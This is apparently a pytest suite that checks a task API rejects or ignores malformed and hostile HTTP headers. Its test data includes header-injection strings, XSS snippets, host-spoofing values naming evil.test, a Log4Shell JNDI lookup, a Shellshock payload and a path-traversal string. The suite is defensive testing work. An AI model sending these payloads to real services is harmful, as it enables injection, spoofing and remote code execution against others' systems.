"""Whatever stands in a header changes nothing but what the header is for."""

from typing import Any

import pytest

from tests.drivers import SUM, Answer, Api

JSON = {"Content-Type": "application/json"}
TASK_ID = "019c1d94-8a80-7000-8000-000000000000"
NOT_AUTHENTICATED = {
    "detail": "Authentication credentials were not provided.",
    "code": "not_authenticated",
}
BAD_HEADER = {
    "detail": "Authorization header must contain two space-delimited values",
    "code": "bad_authorization_header",
}
NOT_ACCEPTABLE = {
    "detail": "Could not satisfy the request Accept header.",
    "code": "not_acceptable",
}
INVALID_KEY = {
    "detail": "Idempotency-Key must be 1 to 255 visible ASCII characters.",
    "code": "invalid_idempotency_key",
}
INVALID_HOST = {"detail": "Invalid Host header.", "code": "invalid_host"}
INVALID_ACCESS = {
    "detail": "Given token not valid for any token type",
    "code": "token_not_valid",
    "messages": [
        {"token_class": "AccessToken", "token_type": "access", "message": "Token is invalid"}
    ],
}

AUTHORIZATION: dict[str, tuple[str, Any]] = {
    "empty": ("", NOT_AUTHENTICATED),
    "spaces": (" " * 8000, NOT_AUTHENTICATED),
    "basic": ("Basic YW5uOnBhc3N3b3Jk", NOT_AUTHENTICATED),
    "in small letters": ("bearer a.b.c", NOT_AUTHENTICATED),
    "with a colon": ("Bearer: a.b.c", NOT_AUTHENTICATED),
    "two schemes": ("Basic x, Bearer a.b.c", NOT_AUTHENTICATED),
    "NUL first": ("\0Bearer a.b.c", NOT_AUTHENTICATED),
    "in other letters": ("\u0412earer a.b.c", NOT_AUTHENTICATED),
    "AWS's own": ("AWS4-HMAC-SHA256 Credential=a/b", NOT_AUTHENTICATED),
    "the scheme alone": ("Bearer", BAD_HEADER),
    "4,000 words": ("Bearer" + " a" * 4000, BAD_HEADER),
    "two tokens": ("Bearer a.b.c,Bearer a.b.c", BAD_HEADER),
    "null": ("Bearer null", INVALID_ACCESS),
    "not ASCII": ("Bearer \u00e9", INVALID_ACCESS),
    "a lone surrogate": ("Bearer \udc80", INVALID_ACCESS),
    "NUL for a token": ("Bearer \0", INVALID_ACCESS),
    "quoted": ('Bearer "a.b.c"', INVALID_ACCESS),
    "8,000 dots": ("Bearer " + "." * 8000, INVALID_ACCESS),
}


@pytest.mark.parametrize(("header", "body"), AUTHORIZATION.values(), ids=AUTHORIZATION.keys())
def test_a_strange_authorization_is_401(api: Api, header: str, body: Any) -> None:
    for method, path in (
        ("GET", "/api/tasks/"),
        ("POST", "/api/tasks/"),
        ("GET", f"/api/tasks/{TASK_ID}/"),
        ("POST", f"/api/tasks/{TASK_ID}/cancel/"),
        ("DELETE", "/api/tasks/"),
    ):
        answer = api.request(method, path, headers={"Authorization": header})
        assert (answer.status, answer.json) == (401, body)
        assert answer.headers["www-authenticate"] == 'Bearer realm="api"'


HOSTS: dict[str, str] = {
    "empty": "",
    "a space": " ",
    "a path": "evil.test/path",
    "a query": "evil.test?a=1",
    "a fragment": "evil.test#",
    "a user": "api.test@evil.test",
    "a user and a password": "api.test:80@evil.test",
    "two": "api.test,evil.test",
    "two in one line": "api.test evil.test",
    "a line break": "api.test\r\nSet-Cookie: a=1",
    "a newline at the end": "api.test\n",
    "NUL": "api.test\0",
    "a backslash": "api.test\\evil.test",
    "a scheme": "https://evil.test",
    "JavaScript": "javascript:alert(1)",
    "HTML": '"><script>alert(1)</script>',
    "an underscore": "api_test",
    "not ASCII": "\u00e4pi.test",
    "a port without digits": "api.test:",
    "a port of letters": "api.test:http",
    "a port of 6 digits": "api.test:100000",
    "two ports": "api.test:80:80",
    "Arabic digits for a port": "api.test:\u0668\u0660",
    "an open bracket": "[::1",
    "an address with a zone": "[fe80::1%eth0]",
    "254 letters": "x" * 254,
    "8,000 letters": "x" * 8000,
    "8,000 colons": ":" * 8000,
}


@pytest.mark.parametrize("host", HOSTS.values(), ids=HOSTS.keys())
def test_a_malformed_host_is_refused_where_a_link_would_name_it(ann: Api, host: str) -> None:
    body = {"task_type": "sum", "input_data": SUM}
    answers = [
        ann.get("/api/tasks/", headers={"Host": host}),
        ann.get("/api/openapi.json", headers={"Host": host}),
        ann.post("/api/tasks/", body, headers={"Host": host}),
    ]
    for answer in answers:
        assert (answer.status, answer.json) == (400, INVALID_HOST)
    assert ann.get("/api/tasks/").json["count"] == 0


@pytest.mark.parametrize(
    "host",
    ["a", "API.test", "api.test:8000", "127.0.0.1:1", "[::1]", "[2001:DB8::1]:443", "x" * 253],
)
def test_any_name_or_address_is_a_host(api: Api, host: str) -> None:
    answer = api.get("/api/openapi.json", headers={"Host": host})
    assert answer.json["servers"] == [{"url": f"http://{host}"}]


SCHEMES: dict[str, tuple[str, str]] = {
    "https": ("https", "https"),
    "http": ("http", "http"),
    "empty": ("", "http"),
    "JavaScript": ("javascript", "http"),
    "JavaScript with code": ("javascript://%0aalert(1)//", "http"),
    "data": ("data", "http"),
    "file": ("file", "http"),
    "web sockets": ("wss", "http"),
    "a URL": ("https://evil.test/?", "http"),
    "two": ("https,javascript", "http"),
    "in capitals": ("HTTPS", "http"),
    "a line break": ("https\r\nSet-Cookie: a=1", "http"),
    "a newline at the end": ("https\n", "http"),
    "NUL": ("https\0", "http"),
    "8,000 letters": ("https" * 1600, "http"),
}


@pytest.mark.parametrize(("sent", "used"), SCHEMES.values(), ids=SCHEMES.keys())
def test_a_link_is_http_or_https_whatever_the_proxy_says(api: Api, sent: str, used: str) -> None:
    answer = api.get("/api/openapi.json", headers={"X-Forwarded-Proto": sent})
    assert answer.json["servers"] == [{"url": f"{used}://api.test"}]


KEYS: dict[str, str] = {
    "empty": "",
    "a space": " ",
    "two words": "a b",
    "256 letters": "x" * 256,
    "8,000 letters": "x" * 8000,
    "a line break": "a\r\nb",
    "a newline at the end": "a\n",
    "NUL": "a\0",
    "DEL": "a\x7f",
    "not ASCII": "cl\u00e9",
    "a tab": "a\tb",
}


@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS.keys())
def test_a_strange_idempotency_key_is_refused(ann: Api, key: str) -> None:
    answer = ann.create(key=key)
    assert (answer.status, answer.json) == (400, INVALID_KEY)


ACCEPTS: dict[str, tuple[str, int]] = {
    "XML": ("application/xml", 406),
    "HTML": ("text/html", 406),
    "words": ("json", 406),
    "JSON in a parameter": ("text/html;a=application/json", 406),
    "NUL": ("application/json\0", 406),
    "4,000 types": ("a/b," * 2000 + "a/b", 406),
    "commas alone": ("," * 8000, 200),
    "semicolons alone": (";" * 8000, 200),
    "a quality of words": ("*/*;q=words", 200),
}


@pytest.mark.parametrize(("accept", "status"), ACCEPTS.values(), ids=ACCEPTS.keys())
def test_a_strange_accept_is_406_or_means_anything(api: Api, accept: str, status: int) -> None:
    answer = api.get("/api/task-types/", headers={"Accept": accept})
    assert answer.status == status
    assert status == 200 or answer.json == NOT_ACCEPTABLE


CONTENT_TYPES: dict[str, str] = {
    "a form": "application/x-www-form-urlencoded",
    "a form with files": "multipart/form-data; boundary=" + "x" * 8000,
    "XML": "application/xml",
    "JSON with a suffix": "application/json-patch+json",
    "JSON and more": "application/jsonp",
    "JSON in a parameter": "text/plain; a=application/json",
    "two types": "text/plain, application/json",
    "NUL": "application/json\0",
    "quotes": '"application/json"',
    "HTML": "<script>alert(1)</script>",
    "not ASCII": "applicati\u00f6n/json",
    "8,000 letters": "x" * 8000,
}


@pytest.mark.parametrize("content_type", CONTENT_TYPES.values(), ids=CONTENT_TYPES.keys())
def test_a_strange_content_type_is_415(api: Api, content_type: str) -> None:
    answer = api.post("/api/token/", raw=b"{}", headers={"Content-Type": content_type})
    assert (answer.status, answer.json) == (
        415,
        {
            "detail": f'Unsupported media type "{content_type}" in request.',
            "code": "unsupported_media_type",
        },
    )


#: Headers that other services obey.
IGNORED: dict[str, dict[str, str]] = {
    "another method": {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "PUT"},
    "another path": {"X-Original-URL": "/api/health/", "X-Rewrite-URL": "/api/health/"},
    "another host": {"X-Forwarded-Host": "evil.test", "X-Host": "evil.test"},
    "another port": {"X-Forwarded-Port": "1", "Forwarded": "host=evil.test;proto=ftp"},
    "another address": {"X-Forwarded-For": "192.0.2.1, 192.0.2.2", "X-Real-IP": "'"},
    "another user": {"X-User-Id": "1", "X-Amzn-Oidc-Identity": "bob", "Remote-User": "bob"},
    "a cookie": {"Cookie": "sessionid=1; csrftoken=" + "x" * 8000},
    "a page of another origin": {"Origin": "https://evil.test", "Referer": "javascript:1"},
    "a range": {"Range": "bytes=0-0," * 800 + "1-1"},
    "an expectation": {"Expect": "100-continue"},
    "an encoding of the answer": {"Accept-Encoding": "gzip;q=words", "TE": "trailers"},
    "a language": {"Accept-Language": "../../etc/passwd"},
    "a charset": {"Accept-Charset": "utf-7"},
    "an upgrade": {"Upgrade": "h2c", "Connection": "Upgrade, Authorization"},
    "a hop that is to drop headers": {"Connection": "close, X-Request-Id, Authorization"},
    "a length": {"Content-Length": "-1", "Transfer-Encoding": "chunked"},
    "a trace": {"traceparent": "00-" + "f" * 8000, "tracestate": "\0", "X-Amzn-Trace-Id": "Root="},
    "a condition": {"If-Match": '"x"', "If-Modified-Since": "never", "If-None-Match": "," * 8000},
    "an id of the request": {"X-Request-Id": "a\r\nSet-Cookie: a=1"},
    "JNDI": {"User-Agent": "${jndi:ldap://evil.test/a}"},
    "a function": {"Shellshock": "() { :; }; echo vulnerable"},
}


@pytest.mark.parametrize("headers", IGNORED.values(), ids=IGNORED.keys())
def test_a_header_that_means_nothing_here_changes_nothing(
    ann: Api, headers: dict[str, str]
) -> None:
    for path in ("/api/tasks/", f"/api/tasks/{TASK_ID}/", "/api/openapi.json"):
        plain, answer = ann.get(path), ann.get(path, headers=headers)
        assert _without_id(answer) == _without_id(plain)
        assert "set-cookie" not in answer.headers
        assert "\n" not in answer.headers["x-request-id"]


def _without_id(answer: Answer) -> tuple[int, dict[str, str], str]:
    return answer.status, answer.headers | {"x-request-id": ""}, answer.text
